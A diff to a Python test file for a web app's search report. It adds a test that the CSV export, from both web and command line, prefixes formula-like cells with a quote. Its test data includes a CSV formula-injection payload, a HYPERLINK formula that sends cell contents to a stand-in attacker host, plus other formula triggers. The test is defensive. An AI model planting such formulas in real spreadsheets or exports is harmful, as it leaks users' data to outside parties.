@@ -6,7 +6,9 @@ and the real index of the sample content.
 
 from __future__ import annotations
 
+import csv
 import html
+import io
 import re
 from urllib.parse import parse_qs, urlsplit
 
@@ -154,3 +156,21 @@ def test_an_editor_sees_what_to_write_next(app, client, auth):
     assert csv.mimetype == "text/csv" and ",zero-results,xylophonequartz,2,2,0,0" in text(csv)
     as_json = client.get("/reports/search?format=json&week=2020-W01").get_json()
     assert as_json["week"] == "2020-W01" and as_json["top"] == []
+
+
+FORMULAS = ['=HYPERLINK("https://evil.example/?d="&A1,"open")', "@SUM(1+1)", "+1+cmd", "-2+3"]  # the search trims tabs
+
+
+def test_the_csv_report_never_hands_a_spreadsheet_a_formula(app, client, auth):
+    """Anonymous searches put =HYPERLINK(...) into the lists: every such cell starts with a quote (web and command line)."""
+    for query in [*FORMULAS, "xylophonequartz"]:
+        assert client.get("/search", query_string={"q": query}).status_code == 200
+    auth.login("ed@example.mil")
+    from_web = text(client.get("/reports/search?format=csv"))
+    from_cli = app.test_cli_runner().invoke(args=["kb", "report", "search", "--format", "csv"]).output
+    for document in (from_web, from_cli):
+        queries = {row["query"] for row in csv.DictReader(io.StringIO(document)) if row["list"] == "zero-results"}
+        assert "xylophonequartz" in queries
+        formulas = queries - {"xylophonequartz"}
+        assert len(formulas) == len(FORMULAS) and all(query.startswith("'") and query[1] in "=@+-" for query in formulas), queries
+        assert "'=hyperlink(" in document.lower()
